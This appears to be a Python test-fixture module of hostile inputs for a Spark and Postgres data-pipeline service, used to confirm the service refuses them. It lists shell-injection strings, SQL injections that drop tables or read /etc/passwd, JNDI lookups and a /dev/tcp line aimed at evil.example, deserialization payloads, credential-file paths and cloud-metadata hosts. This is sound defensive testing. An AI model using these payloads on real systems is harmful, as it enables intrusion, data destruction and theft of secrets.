"""Hostile values, as data. `{root}` is an allowed root, `{outside}` a directory beside it, `{marker}` a file that must not appear.

LOCATIONS and OPTIONS must be refused as a location or an option. TEXTS are allowed where free text is allowed (a reason, a
parameter), and must be refused elsewhere. No value is the exploit of a product: each stands for one reason to refuse.
"""

from __future__ import annotations

from urllib.parse import quote

_COMMANDS = ("touch {marker}", "echo pwned > {marker}", "cp /etc/hostname {marker}")
_SHELL = [
    form.replace("CMD", command)
    for command in _COMMANDS
    for form in (
        "; CMD", "&& CMD", "|| CMD", "| CMD", "& CMD &", "`CMD`", "$(CMD)", "${{IFS}}CMD", "\nCMD\n", "'; CMD; '", '"; CMD; "', "x\0; CMD",
        "<(CMD)", ">(CMD)", "!CMD", "() {{ :; }}; CMD", "-oProxyCommand=CMD", "--exec=CMD", "--output={marker}", "a=(CMD)", "~/$(CMD)",
    )
]  # fmt: skip
_SQL = [
    "'; DROP SCHEMA dataflow CASCADE; --", "1' OR '1'='1", "1) OR (1=1", "'; UPDATE dataflow.datastatus SET status = 'READY'; --", "x' UNION SELECT token FROM dataflow.attempt --",
    "$$; DROP TABLE dataflow.event; $$", "$1; DELETE FROM dataflow.event", "\\'; DROP TABLE dataflow.job; --", "'||(SELECT pg_sleep(60))||'", "'; COPY dataflow.job TO PROGRAM 'touch {marker}'; --",
    "\"; SELECT pg_read_file('/etc/passwd'); --", "1; SELECT lo_export(1, '{marker}')", "%s%s%s", "%(dsn)s", "?; DROP TABLE x", ":dataid'; --", "/**/OR/**/1=1", "'; SET ROLE dataflow_admin; --",
    "'); SELECT dblink_connect('host=evil.example'); --", "x'; LISTEN dataflow; --", "E'\\\\x27'; --", "U&'\\0027'; --", "'::regclass", '{{"$gt": ""}}', "ARRAY[1]", "NULL", "null", "*", "**", "%", "_%", "[a-z", "(?:a+)+$", "(" * 200,
]  # fmt: skip
_TEMPLATES = [
    "{{{{7*7}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{{{config}}}}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}", "{{0.__class__}}", "{{dataid.__class__.__init__.__globals__}}", "%(password)s", "{{password}}",
    "${{jndi:ldap://evil.example/a}}", "${{jndi:rmi://evil.example/a}}", "${{env:DATAFLOW_DSN}}", "${{sys:user.home}}", "${{script:javascript:java.lang.Runtime.getRuntime()}}", "${{file:UTF-8:/etc/passwd}}", "${{url:UTF-8:http://evil.example}}",
    "__import__('os').system('touch {marker}')", "eval(compile('1','','exec'))", "os.system('touch {marker}')", "dataflowd.jobs:copy", "os:system", "subprocess:call", "builtins:exec", "!!python/object/apply:os.system ['touch {marker}']",
    "cos\nsystem\n(S'touch {marker}'\ntR.", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "T(java.lang.Runtime).getRuntime().exec('touch {marker}')", "java_method('java.lang.Runtime', 'getRuntime')",
    "reflect('java.lang.System', 'setProperty', 'hostile', 'yes')", "<script>alert(1)</script>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+cmd|' /C calc'!A0",
]  # fmt: skip
_TERMINAL = [
    "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1b[8mhidden", "\x1bP1000p", "\x1b[?1049h", "\x1b[1;1H", "\x9b31m", "\x9d0;x\x9c", "\x1bc", "\x1b#8",
    "\r\n[info] attempt.finished outcome=DONE", "\nerror [OK]: all is well", "line\rforged", "a\x08\x08\x08b", "bell\x07", "\x0b\x0c", "\x85next", "\u2028separated", "\u2029paragraph", "\x7f", "\x00", "a\0b", "\x1a", "\x04", "\x1b[200~paste\x1b[201~",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n", "x\r\nX-Injected: yes", "<0>kernel: forged", '{{"event": "forged"}}\n', "\x1b_Ga=T;AAAA\x1b\\", "\x1b^private\x1b\\", "\x1b[38;5;1m", "\x1b[5i", "\x1b[4i",
]  # fmt: skip
_UNICODE = [
    "\u202egnp.exe", "\u202dabc", "\u2066x\u2069", "\u200fabc", "\u200eabc", "\u200babc", "\ufeffabc", "\u00a0", "\u3000", "a\u0301", "\u212bngstrom", "\uff0e\uff0e\uff0fetc", "\u2024\u2024/etc", "\u2215etc\u2215passwd", "\u2044etc", "\uff0fetc",
    "\u0130", "\u0131d", "\u017ftatus", "\u212aey", "\uff21dmin", "\u0430dmin", "\u03c1assword", "\U0001f600", "\U000e0041", "\U0010ffff", "\ufffe", "\uffff", "\ud800", "\udfff", "\ud83d", "\u0660\u0661", "\u096d", "\u2460", "\u00b2", "\ufb01le", "\u1e9e", "e\u0301" * 100,
    "\u0e01\u0e33", "\u061c", "\u180e", "\u2060", "\U0001d7d8", "\u115f", "\u3164", "\uffa0", "Z" + "\u0351" * 200,
]  # fmt: skip
_SIZES = ["", " ", "\t", " 1", "1 ", ".", "..", "...", "-", "--", "-rf", "--help", "-1", "x" * 129, "x" * 10_000, "9" * 5000, "x" * 1_000_000, "a/" * 2000, "a b", "a,b", "a;b", "a\\b", "a'b", 'a"b', "a`b", "a%00b", "a#b", "a?b", "a&b", "a@b", "a!b", "a^b", "a~b", "a|b", "a<b", "a>b", "a(b)", "a[b]", "a{{b}}", "a$b", "a*b"]  # fmt: skip
_TRAVERSALS = [
    "../outside", "../../etc/passwd", "a/../../outside", "./../outside", "a/./../../outside", "..//outside", "a/b/../../../outside", ".../../outside", "..", "a/..", "x/../{{dataid}}/../../outside",
]  # fmt: skip

TEXTS: list[str] = [*_SHELL, *_SQL, *_TEMPLATES, *_TERMINAL, *_UNICODE, *_SIZES]

LOCATIONS: list[str] = [
    *(f"{{root}}/{each}" for each in _TRAVERSALS),
    *(f"file:{{root}}/{each}" for each in _TRAVERSALS),
    *(f"file://{{root}}/{each}" for each in _TRAVERSALS),
    *(f"FILE://{{root}}/{each}" for each in _TRAVERSALS),
    # Patterns: Spark expands them after the check of the text.
    "{root}/*", "{root}/?", "{root}/[a-z]", "{root}/{{a,../outside}}", "{root}/{{a,..}}/outside", "{root}/\\../outside", "{root}/\\.\\./outside", "{root}/**", "{root}/l[i]nk", "{root}/l*", "/{{etc,tmp}}", "{root}/{{a,b/../../outside}}", "{root}/a{{dataid,x}}",
    # Links that leave the root.
    "{root}/link", "{root}/link/", "{root}/link/secret.csv", "{root}/./link", "{root}//link", "{root}/chain", "{root}/chain/secret.csv", "{root}/relative", "{root}/relative/secret.csv", "{root}/proc/environ", "file:{root}/link", "file://{root}/link/secret.csv",
    # Beside the root, by text.
    "{outside}", "{outside}/secret.csv", "{root}x", "{root}-x/a", "{root}.bak", "/", "//", "/etc", "/etc/passwd", "/proc/self/environ", "/proc/self/mem", "/proc/self/fd/0", "/dev/stdin", "/dev/zero", "/dev/tcp/evil.example/80", "/sys", "/var/run/docker.sock", "/root/.ssh/id_rsa", "/tmp", "file:/etc/passwd", "file:///etc/passwd", "file://{outside}",  # noqa: S108 - never opened
    # Longer than a path may be.
    "{root}/" + "x" * 256, "{root}/" + "x/" * 3000, "{root}/" + "\u20ac" * 100, "{root}/" + "x" * 1_000_000,
    # A relative path, or another host.
    "etc/passwd", "./x", "~/x", "~root/x", "$HOME/x", "%2e%2e/x", "file:x", "file://localhost/etc", "file://evil.example/share", "file://127.0.0.1{root}", "file:////evil.example/share", "//evil.example/share", "\\\\evil.example\\share", "C:\\Windows", "c:/windows", "", " ", " {root}", "\t{root}", "{root}\n", "{root}/a\nb", "{root}/a\x00b", "{root}/a\x1b[2J", "{root}/\x7f", "{root}/\x85", "{root}/\u2028", "{root}/\ud800",
    # Other spellings, which another program reads as another place: Hadoop reads the text after two slashes as a host.
    "/{root}", "/{root}/data", "//{root}/data", "file:///{root}/data", "file:////{root}/data", "FILE:{root}/data", "File://{root}/data", "s3a://bucket//data/x", "s3a://bucket/./data/x", "s3a://bucket/.//data/x", "S3A://bucket/data/x", "{root}/%2e%2e/outside", "file://{root}/%2E%2E/outside", "{root}/a%2f..%2f..%2foutside", "{root}/%252e%252e/outside", "{root}/data%00", "{root}/..%5coutside",
    "{root}/\uff0e\uff0e/outside", "{root}/\u2024\u2024/outside", "{root}/\u2025/outside", "{root}/data\u2215x", "{root}/data\u2044x", "{root}\uff0fdata", "{root}/\ufe52\ufe52/outside", "{root}/..\uff3coutside", "{root}/\u202eatad", "{root}/da\u200bta", "{root}/\ufeffdata", "{root}/\u2066data", "{root}/\u061cdata",
    # Schemes that load code, fetch from the network, or are not supported.
    *(f"{scheme}://evil.example/x" for scheme in ("http", "https", "ftp", "sftp", "webhdfs", "swebhdfs", "viewfs", "har", "jdbc", "ldap", "rmi", "gopher", "dict", "ssh", "git", "s3", "s3n", "wasb", "wasbs", "adl", "oss", "cosn", "obs", "o3fs", "ofs", "data", "alluxio", "dbfs", "mem", "tachyon", "nfs", "smb", "kafka", "mongodb", "postgresql", "view-fs", "file+http", "xn--s3a", "s3a2", "S3", "hftp")),
    "jar:file:/tmp/x.jar!/a", "jar:http://evil.example/x.jar!/", "zip:/tmp/x.zip", "jrt:/java.base", "class:java.lang.Runtime", "local:/etc/passwd", "har:///etc", "har://hdfs-evil/x.har", "rawlocal:///etc", "rawfs:/etc", "viewfs:///etc", "javascript:alert(1)", "about:blank", "urn:x", "http:/evil.example", "http:evil.example", "data:text/plain,x", "jdbc:postgresql://evil.example/x", "classpath:/x",
    # Buckets and clusters that are not allowed.
    "s3a://evil/x", "s3a://bucket2/x", "s3a://bucket@evil/x", "s3a://evil@bucket/x", "s3a://user:pass@bucket/x", "s3a://bucket:80/x", "s3a:///x", "s3a:x", "s3a://", "s3a://bucket.evil/x", "s3a://bucket/../evil", "s3a://bucket/data/../other", "s3a://bucket/other", "s3a://bucket/data2", "s3a://bucket/data/*", "s3a://bucket/data/{{x,../../other}}", "gs://evil/x", "abfss://c@evil.example/x", "abfs://c/x", "hdfs://evil:8020/x", "hdfs:///x", "hdfs:x", "hdfs://namenode@evil/x",
]  # fmt: skip

_LOADING = [
    "driver", "url", "dbtable", "query", "prepareQuery", "sessionInitStatement", "customSchema", "connectionProvider", "keytab", "principal", "refreshKrb5Config", "pushDownPredicate", "createTableOptions", "createTableColumnTypes", "user", "password", "truncate",
    "path", "paths", "__paths__", "basePath", "checkpointLocation", "badRecordsPath", "columnNameOfCorruptRecord", "mode", "inferSchema", "samplingRatio", "schema", "avroSchema", "avroSchemaUrl", "rowValidationXSDPath", "xsd", "rowTag", "dataSource", "provider", "format", "source", "catalog", "database", "table",
    "compressionCodec", "codec", "parquet.compression", "orc.compress", "parquet.crypto.factory.class", "parquet.encryption.kms.client.class", "parquet.encryption.column.keys", "parquet.encryption.footer.key", "parquet.encryption.key.list", "parquet.encryption.kms.instance.url", "parquet.read.support.class", "parquet.write.support.class", "parquet.read.filter", "parquet.private.read.filter.predicate",
    "orc.key.provider", "orc.encrypt", "orc.mask", "hadoop.security.key.provider.path", "hadoop.security.credential.provider.path", "fs.s3a.endpoint", "fs.s3a.access.key", "fs.s3a.secret.key", "fs.s3a.aws.credentials.provider", "fs.s3a.signing-algorithm", "fs.file.impl", "fs.http.impl", "fs.defaultFS", "fs.AbstractFileSystem.file.impl", "io.compression.codecs", "io.serializations", "mapreduce.output.basename", "mapred.output.committer.class", "mapreduce.fileoutputcommitter.algorithm.version",
    "spark.jars", "spark.jars.packages", "spark.jars.repositories", "spark.jars.ivySettings", "spark.plugins", "spark.extraListeners", "spark.sql.extensions", "spark.sql.queryExecutionListeners", "spark.driver.extraJavaOptions", "spark.executor.extraJavaOptions", "spark.driver.extraClassPath", "spark.executor.extraClassPath", "spark.driver.extraLibraryPath", "spark.sql.catalog.evil", "spark.sql.sources.commitProtocolClass", "spark.sql.parquet.output.committer.class", "spark.sql.streaming.checkpointFileManagerClass", "spark.sql.warehouse.dir",
    "spark.hadoop.fs.file.impl", "spark.serializer", "spark.kryo.registrator", "spark.closure.serializer", "spark.submit.pyFiles", "spark.files", "spark.archives", "spark.pyspark.python", "spark.pyspark.driver.python", "spark.executorEnv.LD_PRELOAD", "spark.yarn.dist.files", "spark.kubernetes.driver.podTemplateFile", "spark.eventLog.dir", "spark.metrics.conf", "spark.log.callerContext", "spark.redaction.regex", "spark.authenticate.secret", "spark.ui.filters", "spark.r.command", "spark.sql.hive.metastore.jars", "spark.sql.hive.metastore.jars.path", "spark.hadoop.javax.jdo.option.ConnectionURL",
    "write.metadata.path", "write.data.path", "write.location-provider.impl", "catalog-impl", "io-impl", "warehouse", "uri", "overwriteSchema", "replaceWhere", "userMetadata", "dataChange", "txnAppId", "delta.logStore.class", "readChangeFeed", "startingVersion", "optimizeWrite",
    "kafka.bootstrap.servers", "subscribe", "host", "port", "socket", "topic", "assumeRole", "endpoint", "proxy", "timeZone2", "HEADER\0", "header ", " header", "header\n", "sep;mode", "__proto__", "constructor", "${env:HOME}", "{{7*7}}", "mode\u200b", "\uff4d\uff4f\uff44\uff45",
]  # fmt: skip
OPTIONS: list[str] = [*_LOADING]

# (format, option, value): the option is known, but its value makes Spark load a class or read another place.
OPTION_VALUES: list[tuple[str, str, object]] = [
    *(
        (kind, option, value)
        for kind in ("csv", "json", "text", "parquet", "orc")
        for option, value in [
            ("compression", "java.lang.Runtime"), ("compression", "org.apache.hadoop.io.compress.GzipCodec"), ("compression", "evil.Codec"), ("COMPRESSION", "http://evil.example/x.jar"), ("compression", "gzip\nevil"), ("compression", ""), ("compression", "x" * 5000), ("compression", ["gzip"]), ("compression", {"a": 1}), ("compression", None),
        ]
    ),
    *(
        ("csv", option, value)
        for option in ("encoding", "charset")
        for value in ("../../x", "UTF-8\n", "${jndi:ldap://evil.example}", "", "x" * 50, "\u212a", "UTF 8")
    ),
    ("csv", "sep", "x" * 2000), ("csv", "sep", "\0"), ("csv", "sep", ["a"]), ("csv", "nullValue", {"a": "b"}), ("json", "dateFormat", "y" * 100_000),
    ("iceberg", "write-format", "evil.Writer"), ("iceberg", "write-format", "PARQUET;"), ("json", "encoding", "evil/charset"),
]  # fmt: skip

FORMATS = ["", "PARQUET", "jdbc:evil", "org.apache.spark.sql.jdbc", "evil.DefaultSource", "kafka", "socket", "binaryFile", "image", "libsvm", "avro", "xml", "hive", "noop", "memory", "rate", "console", "python", "parquet`../etc`", "com.databricks.spark.csv", "text\n", "csv ", "org.apache.spark.sql.execution.datasources.csv.CSVFileFormat"]  # fmt: skip

HOSTS = [
    "evil.example", "localhost.evil.example", "localhost,evil.example", "evil.example,localhost", "localhost:5432", "localhost:1", "localhost ", " localhost", "localhost\n", "localhost\0", "localhost host=evil.example", "localhost' host='evil.example", "localhost/evil.example", "localhost@evil.example", "evil.example#localhost", "evil.example?localhost",
    "127.0.0.1", "127.1", "0", "0.0.0.0", "::1", "[::1]", "::ffff:127.0.0.1", "2130706433", "0x7f000001", "017700000001", "localhost.", "LOCALHOST.evil.example", "loc\u0430lhost", "\uff4cocalhost", "localhos\u0442", "/tmp", "/var/run/postgresql", "@abstract", "../tmp", "169.254.169.254", "metadata.google.internal", "postgresql://evil.example", "host=evil.example", "service=evil", "$(hostname)", "`id`", "*", "%", ".",  # noqa: S104, S108 - never opened
]  # fmt: skip

# Columns of a connection that reach libpq together with an allowed host: none may lead to another host.
CONNINFO = [
    "host=evil.example", "x host=evil.example", "x' host='evil.example", "x\\' host=\\'evil.example", "postgresql://evil.example/x", "postgres://evil.example", "x hostaddr=203.0.113.1", "x' hostaddr='203.0.113.1", "x service=evil", "x options='-c search_path=evil'", "x sslmode=disable", "x passfile=/etc/passwd", "x sslkey=/etc/passwd", "x?host=evil.example", "x&host=evil.example", "x%27", "x krbsrvname=evil", "x target_session_attrs=any host=evil.example", "x\thost=evil.example", "x\nhost=evil.example", "'", "\\", "''", "x=",
]  # fmt: skip

COLUMNS = [
    "a int); DROP TABLE x; --", "a java.lang.Runtime", "a INT DEFAULT java_method('java.lang.System','setProperty','hostile','yes')", "a INT DEFAULT reflect('java.lang.System','setProperty','hostile','yes')", "a INT GENERATED ALWAYS AS (reflect('java.lang.System','setProperty','hostile','yes'))", "a", ";", "SELECT 1", "a int, a", "a udt<evil.Type>", "a struct<b", "{{", "a int USING evil", "a int COMMENT", "\x1b[2J", "`a", "a int, ", "a array<",
]  # fmt: skip

CHECKS: list[object] = [
    [], "x", 7, None, {"custom": ["os:system"]}, {"custom": [{"function": "os:system", "severity": "error"}]}, {"min_rows": 1}, {"min_rows": {}}, {"min_rows": {"value": "1; rm", "severity": "error"}}, {"min_rows": {"value": 1}}, {"min_rows": {"value": 1, "severity": "evil"}}, {"not_null": ["a"]}, {"not_null": {"columns": "a", "severity": "error"}}, {"not_null": {"columns": [1], "severity": "error"}}, {"unique": {"columns": [{}], "severity": "error"}},
    {"regex": "x"}, {"regex": {"a": "x"}}, {"regex": {"a": {"pattern": 1, "severity": "error"}}}, {"regex": {"a": {"pattern": ["x"], "severity": "error"}}}, {"range": {"a": {"severity": "error"}}}, {"range": {"a": {"min": {}, "severity": "error"}}}, {"range": 1}, {"accepted_values": {"a": {"values": [{}], "severity": "error"}}}, {"accepted_values": {"a": {"values": "abc", "severity": "error"}}}, {"schema": {"columns": 1, "severity": "error"}}, {"schema": "a int"}, {"row_count": {"input": 1, "tolerance": 0, "severity": "error"}}, {"row_count": {"input": "a", "tolerance": "0", "severity": "error"}},
    {"expression": "1=1"}, {"sql": "DROP TABLE x"}, {"query": "SELECT 1"}, {"__class__": {}}, {"min_rows\n": {"value": 1, "severity": "error"}},
]  # fmt: skip


def texts(marker: object) -> list[str]:
    return [_filled(each, marker=marker) for each in TEXTS]


def locations(root: object, outside: object) -> list[str]:
    found = [_filled(each, root=root, outside=outside) for each in LOCATIONS]
    return [*found, *(quote(each, safe="") for each in _TRAVERSALS)]


def _filled(value: str, **names: object) -> str:
    for name, given in names.items():
        value = value.replace("{" + name + "}", str(given))
    return value.replace("{{", "{").replace("}}", "}")


def size() -> int:
    """How many different values there are."""
    single = {*TEXTS, *LOCATIONS, *OPTIONS, *FORMATS, *HOSTS, *CONNINFO, *COLUMNS}
    return len(single) + len({repr(each) for each in (*OPTION_VALUES, *CHECKS)})
